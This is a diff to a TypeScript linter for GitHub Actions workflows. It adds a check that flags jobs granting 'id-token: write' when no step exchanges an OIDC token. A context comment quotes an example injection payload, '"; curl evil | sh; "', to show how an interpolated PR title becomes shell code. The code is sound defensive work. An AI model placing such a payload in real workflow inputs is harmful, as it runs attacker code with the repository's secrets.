@@ -34,9 +34,11 @@
  *   before the shell sees it, so a title like `"; curl evil | sh; "` runs as code; pass it
  *   through `env:` and quote `"$VAR"` instead
  *   (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections).
- * - `job-permissions`: no job-level `permissions: write-all`, and every `<scope>: write` a job
+ * - `job-permissions`: no job-level `permissions: write-all`; every `<scope>: write` a job
  *   grants carries a comment on its line saying which step needs it (zizmor's
- *   excessive-permissions; the reason is what a reviewer checks the steps against).
+ *   excessive-permissions; the reason is what a reviewer checks the steps against); and
+ *   `id-token: write` only where a step exchanges the token (an OIDC action, or a script that
+ *   reads `ACTIONS_ID_TOKEN_REQUEST_URL`) or the job calls a reusable workflow.
  * - `dangerous-trigger`: `pull_request_target`, `workflow_run` and `issue_comment` run with the
  *   base repository's secrets and a write token on events outsiders cause; each needs an
  *   explicit `# allow-trigger: <reason>` comment on or just above its line.
@@ -608,6 +610,14 @@ function checkJobPermissions(job: YAMLMap, jobId: string, source: string, add: A
     return;
   }
   if (!isMap(permissions)) return;
+  const idToken = permissions.items.find((pair) => scalarText(pair.key) === 'id-token');
+  if (idToken && scalarText(idToken.value) === 'write' && !usesOidcToken(job))
+    add(
+      'job-permissions',
+      idToken.key as Node,
+      `jobs.${jobId}.permissions.id-token`,
+      `Job "${jobId}" grants "id-token: write" but no step exchanges an OIDC token (${OIDC_ACTIONS.join(', ')}, or a script reading ACTIONS_ID_TOKEN_REQUEST_URL): every step could mint a token for any cloud role that trusts this repository. Drop it.`,
+    );
   for (const pair of permissions.items) {
     if (scalarText(pair.value) !== 'write') continue;
     const end = (pair.value as Node).range?.[1] ?? 0;
@@ -622,6 +632,35 @@ function checkJobPermissions(job: YAMLMap, jobId: string, source: string, add: A
       `Job "${jobId}" grants "${scope}: write" without saying why. Add a comment on the line naming the step that needs it (e.g. "${scope}: write # the sticky comment"), or grant read / drop it.`,
     );
   }
+}
+
+/** Actions that exchange the job's OIDC token for cloud credentials or a signature. */
+const OIDC_ACTIONS = [
+  CONFIGURE_AWS,
+  'azure/login',
+  'google-github-actions/auth',
+  'actions/attest-build-provenance',
+  'actions/attest',
+];
+
+/**
+ * Whether a job uses the OIDC token `id-token: write` lets it request. A job that calls a
+ * reusable workflow passes the grant on (the called file's jobs are checked in that file).
+ */
+function usesOidcToken(job: YAMLMap): boolean {
+  if (job.get('uses', true) !== undefined) return true;
+  const steps = job.get('steps', true);
+  return (
+    isSeq(steps) &&
+    steps.items.some((step) => {
+      if (!isMap(step)) return false;
+      const uses = scalarText(step.get('uses', true));
+      return (
+        OIDC_ACTIONS.some((action) => uses.startsWith(`${action}@`)) ||
+        /ACTIONS_ID_TOKEN_REQUEST_(?:URL|TOKEN)/.test(scalarText(step.get('run', true)))
+      );
+    })
+  );
 }
 
 /** `secrets-inherit`: a reusable workflow gets every secret of the repository. */
